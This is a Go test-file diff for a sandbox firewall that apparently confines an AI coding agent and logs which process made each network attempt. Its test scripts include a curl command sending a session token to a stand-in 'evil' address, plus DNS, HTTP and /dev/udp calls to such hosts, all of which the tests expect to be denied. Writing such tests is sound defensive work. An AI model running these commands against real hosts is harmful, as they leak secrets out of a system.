@@ -6,6 +6,7 @@ import (
 	"errors"
 	"fmt"
 	"net"
+	"net/netip"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -58,6 +59,7 @@ func about(records []audit.Record, layer audit.Layer, host string, port uint16) 
 // it has in the agent's container, in both topologies.
 func TestEveryDecisionNamesTheProcess(t *testing.T) {
 	curl, dig, bash := testenv.Program(t, "curl"), testenv.Program(t, "dig"), testenv.Program(t, "bash")
+	agent := filepath.Join(binaries(t), "agent")
 	script := `
 		in_one() { ` + bash + ` -c 'echo $$; exec "$@"' - "$@"; }
 		in_one ` + dig + ` @` + dnsAddr + ` +tries=1 +time=5 evil.test | head -1
@@ -66,7 +68,10 @@ func TestEveryDecisionNamesTheProcess(t *testing.T) {
 		in_one ` + curl + ` -sS --noproxy '*' --resolve evil.test:80:` + okAddr + ` --max-time 5 http://evil.test/ | head -1
 		in_one ` + curl + ` -sS --noproxy '*' --max-time 5 --next "http://` + evilAddr + `:8080/?token=verysecretword&$SESSION_TOKEN" 2>&1 | head -1
 		in_one ` + curl + ` -sS --noproxy '*' --max-time 5 'http://[` + evilAddr6 + `]:8443/' 2>&1 | head -1
-		in_one ` + bash + ` -c 'exec 3<>/dev/udp/` + evilAddr + `/4433; echo x >&3; read -t 0.3 <&3' | head -1`
+		export ` + agentEnv + `=echo
+		in_one ` + agent + ` ` + evilAddr + `
+		in_one ` + agent + ` ` + evilAddr6 + `
+		in_one ` + bash + ` -c 'exec 3<>/dev/udp/` + evilAddr + `/4433; echo x >&3; read -t 1 <&3; read -t 0.3 <&3' 2>/dev/null | head -1`
 	wants := []struct {
 		layer   audit.Layer
 		host    string
@@ -80,11 +85,15 @@ func TestEveryDecisionNamesTheProcess(t *testing.T) {
 		{audit.LayerHTTP, "evil.test", 80, firewall.Deny, curl},
 		{audit.LayerIP, evilAddr, 8080, firewall.Deny, curl},
 		{audit.LayerIP, evilAddr6, 8443, firewall.Deny, curl},
+		{audit.LayerIP, evilAddr, 0, firewall.Deny, agent},
+		{audit.LayerIP, evilAddr6, 0, firewall.Deny, agent},
 		{audit.LayerIP, evilAddr, 4433, firewall.Deny, bash},
 	}
 	for name, run := range map[string]func(t *testing.T) (result, *box){
 		"single": func(t *testing.T) (result, *box) {
-			b := newBox(t, newInternet(t).Sandbox, guardPolicy)
+			in := newInternet(t)
+			letPing(t, in)
+			b := newBox(t, in.Sandbox, guardPolicy)
 			b.pid1 = true
 			cmd := b.command(bash, "-c", script)
 			cmd.Env = append(cmd.Env, firstSecret)
@@ -92,6 +101,7 @@ func TestEveryDecisionNamesTheProcess(t *testing.T) {
 		},
 		"sidecar": func(t *testing.T) (result, *box) {
 			in, b := witnessed(t)
+			letPing(t, in)
 			return joined(t, in, bash, "-c", script), b
 		},
 	} {
@@ -139,6 +149,34 @@ func TestEveryDecisionNamesTheProcess(t *testing.T) {
 	}
 }
 
+// letPing lets everybody send echo requests, as engines do in their networks.
+func letPing(t testing.TB, in *internet) {
+	t.Helper()
+	var err error
+	in.Sandbox.Do(func() { err = os.WriteFile("/proc/sys/net/ipv4/ping_group_range", []byte("0 2147483647"), 0o644) })
+	if err != nil {
+		t.Fatal(err)
+	}
+}
+
+// echoAgent sends an echo request, which is refused, and waits a moment as for
+// its answer.
+func echoAgent(to string) int {
+	addr := netip.MustParseAddr(to)
+	domain, proto, kind, sa := unix.AF_INET6, unix.IPPROTO_ICMPV6, byte(128), unix.Sockaddr(&unix.SockaddrInet6{Addr: addr.As16()})
+	if addr.Is4() {
+		domain, proto, kind, sa = unix.AF_INET, unix.IPPROTO_ICMP, 8, &unix.SockaddrInet4{Addr: addr.As4()}
+	}
+	fd, err := unix.Socket(domain, unix.SOCK_DGRAM, proto)
+	if err != nil {
+		fmt.Println(err)
+		return 1
+	}
+	_ = unix.Sendto(fd, []byte{kind, 0, 0, 0, 0, 0, 0, 1}, 0, sa) // refused, which a socket of IPv6 is not told
+	time.Sleep(300 * time.Millisecond)
+	return 0
+}
+
 // settled waits until a sidecar has written what it knows.
 func (b *box) settled(t testing.TB) {
 	t.Helper()
@@ -176,18 +214,47 @@ func TestRefusedConnectionsNameTheProcess(t *testing.T) {
 	}
 }
 
-// Claude Code's own process cannot be read by anybody of its user. It is on
-// record as a guess while no other process hides, and nobody is otherwise.
-func TestAProcessThatHidesIsAGuess(t *testing.T) {
-	bin := binaries(t)
-	hidden := filepath.Join(t.TempDir(), "claude")
-	text, err := os.ReadFile(filepath.Join(bin, "agent"))
+// A process that ended while it was looked for is not taken for the one that
+// hides, nor is one that is about to end.
+func TestAnEndedProcessIsNobody(t *testing.T) {
+	hidden := unreadable(t)
+	in, b := witnessed(t)
+	const n = 60
+	r := joined(t, in, testenv.Program(t, "bash"), "-c", fmt.Sprintf(`
+		%s=wait %s &
+		until [ -z "$(cat /proc/$!/environ 2>/dev/null)" ]; do :; done
+		for i in $(seq 1 %d); do (echo x >/dev/udp/%s/$((7500+i))) 2>/dev/null; done
+		kill %%1; exit 0`, agentEnv, hidden, n, evilAddr))
+	r.mustExit(t, 0)
+	eventually(t, "all are on record", func() bool {
+		_, ok := about(b.records(), audit.LayerIP, evilAddr, 7500+n)
+		return ok
+	})
+	for _, rec := range b.records() {
+		if rec.Guess {
+			t.Errorf("recorded %+v", rec)
+		}
+	}
+}
+
+// unreadable is a program of the agent's that hides like Claude Code's own.
+func unreadable(t testing.TB) string {
+	t.Helper()
+	program := filepath.Join(t.TempDir(), "claude")
+	text, err := os.ReadFile(filepath.Join(binaries(t), "agent"))
 	if err == nil {
-		err = errors.Join(os.Chmod(filepath.Dir(hidden), 0o755), os.Chmod(filepath.Dir(filepath.Dir(hidden)), 0o755), os.WriteFile(hidden, text, 0o755), os.Chmod(hidden, 0o111))
+		err = errors.Join(os.Chmod(filepath.Dir(program), 0o755), os.Chmod(filepath.Dir(filepath.Dir(program)), 0o755), os.WriteFile(program, text, 0o755), os.Chmod(program, 0o111))
 	}
 	if err != nil {
 		t.Fatal(err)
 	}
+	return program
+}
+
+// Claude Code's own process cannot be read by anybody of its user. It is on
+// record as a guess while no other process hides, and nobody is otherwise.
+func TestAProcessThatHidesIsAGuess(t *testing.T) {
+	bin, hidden := binaries(t), unreadable(t)
 	in, b := witnessed(t)
 	bash := testenv.Program(t, "bash")
 	r := joined(t, in, bash, "-c", `export `+agentEnv+`=connect
